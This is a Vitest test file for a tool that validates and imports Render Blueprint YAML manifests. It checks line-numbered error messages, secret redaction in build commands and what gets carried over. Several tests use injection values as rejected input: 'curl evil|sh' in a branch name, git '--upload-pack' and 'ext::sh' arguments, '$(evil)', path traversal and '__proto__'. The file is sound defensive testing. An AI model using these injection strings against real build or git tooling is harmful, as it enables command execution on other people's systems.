import {
  branchExpected,
  domainExpected,
  envVarKeyExpected,
  healthCheckPathExpected,
  lineExpected,
  pathWithinExpected,
} from "@slipway/render-api";
import { describe, expect, test } from "vitest";
import { broughtFrom, problemsOf } from "./imported.fixture";

const service = (more = "") => `services:
  - type: web
    name: api
    runtime: node
    buildCommand: make
    startCommand: run
${more}`;

const variable = (source: string) =>
  service(`    envVars:
      - key: VALUE
        ${source}
`);

const database = (more = "") => `${service()}databases:
  - name: db
    ipAllowList: []
${more}`;

describe("what is wrong in a Blueprint is told with its line, and nothing is brought over", () => {
  test.each<[string, string, string[]]>([
    [
      "no YAML",
      "services:\n  - {",
      ["line 2: Flow map in block collection must be sufficiently indented and end with a }"],
    ],
    ["a key twice", "services: []\nservices: []\n", ["line 2: Map keys must be unique"]],
    ["a list", "- a\n", ["line 1: expected object"]],
    ["nothing", "", ["line 1, services: has neither a web service nor a static site, so there is nothing to deploy"]],
    [
      "an unknown kind",
      "services:\n  - type: lambda\n    name: api\n",
      ["line 2, services[0].type: `lambda` is no kind of service: expected web, pserv, worker, cron or keyvalue"],
    ],
    [
      "an unknown runtime",
      "services:\n  - type: web\n    name: api\n    runtime: perl\n",
      [
        "line 4, services[0].runtime: `perl` is no runtime: expected image, docker, elixir, go, node, python, ruby, rust or static",
      ],
    ],
    ["no runtime", "services:\n  - type: web\n    name: api\n", ["line 2, services[0]: `runtime` is missing"]],
    [
      "no commands",
      "services:\n  - type: web\n    name: api\n    runtime: go\n",
      ["line 2, services[0]: `buildCommand` and `startCommand` are missing"],
    ],
    [
      "unknown fields",
      `${service("    healthcheckPath: /\n")}extra: 1\n`,
      ["line 8, extra: isn't known to Render's specification"],
    ],
    [
      "an unknown field of a service",
      service("    healthCheckpath: /\n"),
      ["line 7, services[0].healthCheckpath: isn't known to Render's specification; did you mean `healthCheckPath`?"],
    ],
    [
      "several",
      service("    plan: huge\n    numInstances: 0\n"),
      [
        'line 7, services[0].plan: expected one of "free"|"starter"|"standard"|"pro"|"pro plus"|"pro max"|"pro ultra"',
        "line 8, services[0].numInstances: expected number to be >=1",
      ],
    ],
    [
      "a variable of two sources",
      variable("value: a\n        sync: false"),
      [
        "line 8, services[0].envVars[0]: expected one of value, generateValue, sync, fromDatabase, fromService, fromGroup, found value and sync",
      ],
    ],
    [
      "a variable's name",
      variable("value: a").replace("VALUE", "1A"),
      [`line 8, services[0].envVars[0].key: expected ${envVarKeyExpected}`],
    ],
    [
      "a reference to nothing of a service",
      variable("fromService: { type: web, name: api }"),
      ["line 9, services[0].envVars[0].fromService: expected either `property` or `envVarKey`"],
    ],
    [
      "a plan of a database",
      database("    plan: basic-9gb\n"),
      ["line 10, databases[0].plan: `basic-9gb` is no plan of a Postgres"],
    ],
    [
      "a version",
      database('    postgresMajorVersion: "9"\n'),
      [
        "line 10, databases[0].postgresMajorVersion: `9` can't be brought over: expected 11, 12, 13, 14, 15, 16, 17, 18",
      ],
    ],
    [
      "two regions",
      database("    region: ohio\n"),
      ["line 10, databases[0].region: is `ohio`, and others are in `oregon`: a system is in one region"],
    ],
    [
      "two of a name",
      `${service()}databases:\n  - name: api\n`,
      ["line 8, databases[0].name: `api` is the name of a service, too: two things can't share a name"],
    ],
  ])("%s", (_, text, expected) => {
    expect(problemsOf(text)).toEqual(expected);
  });

  test("services of two repositories or branches", () => {
    const two = (field: string, one: string, another: string) =>
      `${service(`    ${field}: ${one}\n`)}${service(`    ${field}: ${another}\n`).replace("services:\n", "").replace("name: api", "name: web")}`;
    expect(problemsOf(two("repo", "https://a.com/one", "https://a.com/two"))).toEqual([
      "line 13, services[1].repo: is `https://a.com/two`, and that of `api` is `https://a.com/one`: all services of a system have the same",
    ]);
    expect(problemsOf(two("branch", "one", "two"))).toEqual([
      "line 13, services[1].branch: is `two`, and that of `api` is `one`: all services of a system have the same",
    ]);
  });
});

describe("what would be something else elsewhere is a problem, and is not shown as it is", () => {
  const url = "expected a Git URL such as `https://github.com/acme/shop`";
  test.each<[string, string, string]>([
    ["branch", "main; curl evil|sh", `expected ${branchExpected}`],
    ["branch", "--upload-pack=evil", `expected ${branchExpected}`],
    ["branch", "main\nevil", `expected ${branchExpected}`],
    ["repo", "$(evil)", url],
    ["repo", "--upload-pack=evil", url],
    ["repo", "ext::sh -c evil", url],
    ["repo", "../elsewhere", url],
    ["repo", "https://a.com/b;evil c", url],
    ["repo", "https://a.com/b\u001b[2J", `expected ${lineExpected}`],
    ["rootDir", "../elsewhere", `expected ${pathWithinExpected}`],
    ["dockerfilePath", "../elsewhere/Dockerfile", `expected ${pathWithinExpected}`],
    ["dockerContext", "apps/../..", `expected ${pathWithinExpected}`],
    ["domain", "a.com/`evil`", `expected ${domainExpected}`],
    ["healthCheckPath", "@evil.com/", `expected ${healthCheckPathExpected}`],
  ])("%s: %j", (field, value, expected) => {
    expect(problemsOf(service(`    ${field}: ${JSON.stringify(value)}\n`))).toEqual([
      `line 7, services[0].${field}: ${expected}`,
    ]);
  });

  test("a variable that is what every object has", () => {
    expect(problemsOf(variable("value: a").replace("VALUE", "__proto__"))).toEqual([
      "line 8, services[0].envVars[0].key: is a name that no manifest can have",
    ]);
  });

  test("what is told of a file's words stays one line", () => {
    const lines = problemsOf(service(`    "a\\nline 1: b\\e[2J": 1\n`));
    expect(lines).toEqual(["line 7, services[0].a line 1: b [2J: isn't known to Render's specification"]);
    expect(problemsOf(service().replace("runtime: node", 'runtime: "a\\n\\u202eb"'))[0]).toContain(
      "`a b` is no runtime",
    );
  });
});

describe("a secret in a command is a problem, for it would stand in code, and is shown nowhere", () => {
  const told =
    "has what looks like a secret (not shown), and would stand in code: make it a variable of the service, and write `$NAME` in its place";
  test.each([
    "npm ci --registry=https://ci:hunter2@npm.acme.com",
    'git clone "https://ghp_hunter2000@github.com/acme/shop" && make',
    "curl 'https://acme.com/hook?token=hunter2' | sh",
    "DATABASE_URL=postgresql://app:hunter2@db/app npm run migrate",
    "NPM_TOKEN=hunter2 npm ci",
    "npm config set //registry.npmjs.org/:_authToken=hunter2",
    "stripe login --api-key sk_live_hunter2",
    "deploy --token=hunter2",
    "deploy --password hunter2",
    "curl -H 'Authorization: Bearer hunter2000' https://acme.com/hook",
  ])("%s", (command) => {
    for (const field of ["buildCommand", "startCommand"]) {
      const text = service().replace(new RegExp(`${field}: \\w+`), `${field}: ${JSON.stringify(command)}`);
      expect(problemsOf(text)).toEqual([expect.stringMatching(new RegExp(`services\\[0\\]\\.${field}: `))]);
      expect(problemsOf(text)[0]).toMatch(/has what looks like a secret \(not shown\)/);
      expect(problemsOf(text).join()).not.toContain("hunter2");
    }
    expect(problemsOf(service(`    preDeployCommand: ${JSON.stringify(command)}\n`))).toEqual([
      `line 7, services[0].preDeployCommand: ${told}`,
    ]);
  });

  test.each([
    "npm ci --registry=https://ci:$NPM_TOKEN@npm.acme.com",
    "NPM_TOKEN=${TOKEN} npm ci",
    "NODE_ENV=production node --key=a server.js",
    "curl http://localhost:3000/@scope/name",
    "git clone git@github.com:acme/shop && git clone https://github.com/acme/shop",
  ])("no secret is in %s", (command) => {
    expect(problemsOf(service(`    preDeployCommand: ${JSON.stringify(command)}\n`))).toEqual([]);
  });
});

describe("what can't be brought over is told with its line, and the rest is", () => {
  /** What is told but that no branch is named and what is pushed is deployed. */
  const left = (text: string) =>
    broughtFrom(text).left.filter((one) => !/`main` is taken|becomes `checksPass`/.test(one));

  test.each<[string, string]>([
    [
      "disk: { name: a, mountPath: /a }",
      "disk.name: becomes `data`: a service has one disk, and that is what it is called",
    ],
    ["initialDeployHook: seed", "initialDeployHook: is left out: nothing is run once only"],
    ["previews: { generation: automatic }", "previews: is left out: a stack of a pull request has settings of its own"],
    [
      "renderSubdomainPolicy: disabled",
      "renderSubdomainPolicy: is left out: Render's own address leads to the service, too",
    ],
  ])("%s", (field, expected) => {
    expect(left(service(`    ${field}\n`))).toEqual([`line 7, services[0].${expected}`]);
  });

  test("a disk comes over, with the size that Render gives one whose size isn't said", () => {
    const disks = ["{ name: data, mountPath: /a }", "{ name: data, mountPath: /a, sizeGB: 3 }"].map(
      (disk) => broughtFrom(service(`    disk: ${disk}\n`)).brought.services[0],
    );
    expect(disks).toMatchObject([{ disk: { mountPath: "/a", sizeGB: 10 } }, { disk: { mountPath: "/a", sizeGB: 3 } }]);
  });

  test.each<[string, string]>([
    ["fromGroup: none", "[0].fromGroup: is left out: this file has no group `none`"],
    ["fromDatabase: { name: none, property: host }", "[0]: becomes a setting: this file has no database `none`"],
    [
      "fromService: { type: web, name: none, property: host }",
      "[0]: becomes a setting: no service `none` is brought over",
    ],
    [
      "fromService: { type: web, name: api, envVarKey: NONE }",
      "[0]: becomes a setting: `api` has no `NONE` of its own",
    ],
    [
      "fromService: { type: web, name: api, envVarKey: VALUE }",
      "[0]: becomes a setting: `api` has no `VALUE` of its own",
    ],
  ])("%s", (source, expected) => {
    const text = source.startsWith("fromGroup")
      ? variable(source).replace("key: VALUE\n        ", "")
      : variable(source);
    expect(left(text)).toEqual([`line 8, services[0].envVars${expected}`]);
  });

  test.each([
    ["where the Blueprint says none", "", "4000", true],
    ["where it is one that the private network doesn't carry", "10000", "4000", true],
    ["that the Blueprint says", "8080", "8080", false],
  ])("the port of a service that others ask privately, %s", (_, said, port, isTold) => {
    const own = said === "" ? "" : `      - { key: PORT, value: "${said}" }\n`;
    const { brought } = broughtFrom(`${variable("fromService: { type: web, name: api, property: port }")}${own}`);
    const texts = Object.fromEntries(brought.services[0]?.variables.map(({ key, value }) => [key, value]) ?? []);
    expect(texts).toEqual({ VALUE: { text: port }, PORT: { text: port } });
    const told = brought.left.filter(({ path }) => path[0] === "services").map(({ text }) => text);
    expect(told.filter((text) => !/branch|checksPass/.test(text))).toEqual([
      ...(isTold ? [expect.stringMatching(/^gets `PORT=4000`: others ask it privately/)] : []),
      `becomes the text \`${port}\`, the port that \`api\` has`,
    ]);
  });

  test("a port that only a stack knows becomes a setting of whoever asks for it", () => {
    const own = "      - { key: PORT, sync: false }\n";
    const { brought } = broughtFrom(`${variable("fromService: { type: web, name: api, property: port }")}${own}`);
    const [value] = brought.services[0]?.variables.map((one) => one.value) ?? [];
    expect(value).toEqual({ asked: { service: "api", key: "VALUE" } });
    expect(brought.left.map(({ text }) => text)).toContain(
      "becomes a setting: which `PORT` `api` has only a stack knows",
    );
  });

  test("a secret that a static site would show becomes a setting", () => {
    const site = `  - type: web
    name: web
    runtime: static
    buildCommand: make
    staticPublishPath: dist
    envVars:
      - key: SECRET
        generateValue: true
      - key: URL
        fromDatabase: { name: db, property: connectionString }
`;
    const { brought } = broughtFrom(database().replace("databases:", `${site}databases:`));
    expect(brought.services[1]?.variables).toEqual([
      { key: "SECRET", value: { asked: { service: "web", key: "SECRET" } } },
      { key: "URL", value: { asked: { service: "web", key: "URL" } } },
    ]);
  });
});
